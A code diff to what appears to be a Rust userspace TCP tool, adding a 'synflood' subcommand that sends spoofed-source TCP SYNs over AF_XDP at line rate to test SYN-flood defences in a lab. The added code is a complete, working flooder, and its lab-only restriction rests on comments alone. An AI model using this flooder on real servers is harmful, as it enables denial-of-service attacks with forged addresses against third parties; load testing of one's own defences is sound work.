@@ -4,6 +4,8 @@
 //! * `xtcp client`: connect, send and receive byte counts, print the SHA-256 of what came back.
 //! * `xtcp decode FILE`: print each frame of a pcap (or `NAME HEX` fixture) file as xtcp's
 //!   wire layer reads it, with the reason for every frame it refuses.
+//! * `xtcp synflood`: SYNs from a spoofed address as fast as AF_XDP sends them, to test a
+//!   server's SYN-flood defences (our own, or the kernel's) in a lab; nothing else.
 
 use clap::{Args, Parser, Subcommand, ValueEnum};
 use std::path::PathBuf;
@@ -26,6 +28,10 @@ enum Command {
     /// Connect to a server, send and receive, print the SHA-256 of what was received.
     #[cfg(feature = "afxdp")]
     Client(net::ClientArgs),
+    /// Flood a server in the lab with SYNs from a spoofed address, over AF_XDP, to test its
+    /// SYN-flood defences. Use only addresses of a lab of your own (198.18.0.0/15).
+    #[cfg(feature = "afxdp")]
+    Synflood(net::FloodArgs),
     /// Decode frames from a pcap file or a hex fixture file with xtcp's wire layer.
     Decode {
         /// A pcap file (Ethernet), or a text file of `NAME HEX` lines (tests/fixtures/*.hex).
@@ -51,6 +57,8 @@ fn main() -> ExitCode {
         Command::Serve(a) => net::serve(a),
         #[cfg(feature = "afxdp")]
         Command::Client(a) => net::client(a),
+        #[cfg(feature = "afxdp")]
+        Command::Synflood(a) => net::synflood(a),
         Command::Decode { file, checksums } => {
             let rx = match checksums {
                 Checksums::Verify => RxChecksum::Verify,
@@ -608,6 +616,100 @@ mod net {
             c.tcp_tx_in_place,
             c.tcp_tx_copied
         )
+    }
+
+    #[derive(Args)]
+    pub struct FloodArgs {
+        /// The interface to send on (our XDP program takes only ARP for the spoofed address).
+        #[arg(long)]
+        iface: String,
+        /// The spoofed source address the SYNs claim (one nobody answers for: the server's
+        /// SYN-ACKs then wait for ARP in vain, as under a real flood).
+        #[arg(long)]
+        spoof: std::net::Ipv4Addr,
+        /// The server under test, ADDR:PORT.
+        #[arg(long)]
+        target: SocketAddrV4,
+        /// The server's MAC address (the flooder does not ask ARP, to send from its first frame).
+        #[arg(long)]
+        target_mac: xtcp::wire::MacAddr,
+        /// Seconds to flood (0: until SIGINT/SIGTERM).
+        #[arg(long, default_value_t = 10.0)]
+        seconds: f64,
+    }
+
+    /// SYNs as Linux sends them (MSS, SACK-permitted, timestamps, window scale), from random
+    /// ports with random sequence numbers, in bursts of 64 as fast as the TX ring takes them.
+    pub fn synflood(a: FloodArgs) -> Result<ExitCode, String> {
+        use rand::{Rng, SeedableRng};
+        use xtcp::wire::{
+            EtherType, EthernetRepr, FrameRepr, IpProtocol, Ipv4Repr, L4Repr, NetRepr, TcpFlags, TcpOptions, TcpRepr,
+            Timestamp,
+        };
+        let mut dev = AfXdpDevice::open(&AfXdpConfig::new(a.iface.as_str(), &[a.spoof]), 0)
+            .map_err(|e| format!("AF_XDP on {}: {e} (needs root and the interface in this namespace)", a.iface))?;
+        let stop = shutdown::install().map_err(|e| format!("signal handlers: {e}"))?;
+        let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(u64::from(std::process::id()));
+        let mac = dev.mac();
+        let start = std::time::Instant::now();
+        let (mut sent, mut rx, mut tx) = (0u64, Vec::with_capacity(64), Vec::with_capacity(64));
+        while !stop.load(Ordering::Relaxed) && (a.seconds == 0.0 || start.elapsed().as_secs_f64() < a.seconds) {
+            // ARP requests for the spoofed address: taken and left unanswered.
+            dev.rx_burst(&mut rx, 64);
+            for f in rx.drain(..) {
+                dev.recycle(f);
+            }
+            while tx.len() < 64 {
+                let Some(mut f) = dev.alloc_tx() else { break };
+                let seg = TcpRepr {
+                    src_port: rng.random_range(1024..=65535),
+                    dst_port: a.target.port(),
+                    seq: rng.random(),
+                    ack: 0,
+                    flags: TcpFlags::SYN,
+                    window: 64240,
+                    urgent: 0,
+                    options: TcpOptions {
+                        mss: Some(1460),
+                        window_scale: Some(7),
+                        sack_permitted: true,
+                        timestamp: Some(Timestamp { tsval: rng.random(), tsecr: 0 }),
+                        ..TcpOptions::default()
+                    },
+                    payload: &[],
+                };
+                let ip = Ipv4Repr {
+                    src: a.spoof,
+                    dst: *a.target.ip(),
+                    protocol: IpProtocol::Tcp,
+                    payload_len: 0,
+                    ttl: 64,
+                    ident: 0,
+                    dont_frag: true,
+                    dscp_ecn: 0,
+                };
+                let frame = FrameRepr {
+                    eth: EthernetRepr { src: mac, dst: a.target_mac, ethertype: EtherType::Ipv4 },
+                    net: NetRepr::Ipv4 { ip, l4: L4Repr::Tcp(seg) },
+                };
+                match frame.emit(dev.buffer_mut(&f)) {
+                    Ok(n) => {
+                        f.offset = 0;
+                        f.len = n as u32;
+                        tx.push(f);
+                    }
+                    Err(_) => dev.recycle(f),
+                }
+            }
+            sent += dev.tx_burst(&mut tx) as u64;
+            dev.flush();
+        }
+        for f in tx.drain(..) {
+            dev.recycle(f);
+        }
+        let secs = start.elapsed().as_secs_f64();
+        println!("synflood: {sent} SYNs in {secs:.2} s ({:.0}/s) from {} to {}", sent as f64 / secs, a.spoof, a.target);
+        Ok(ExitCode::SUCCESS)
     }
 }
 
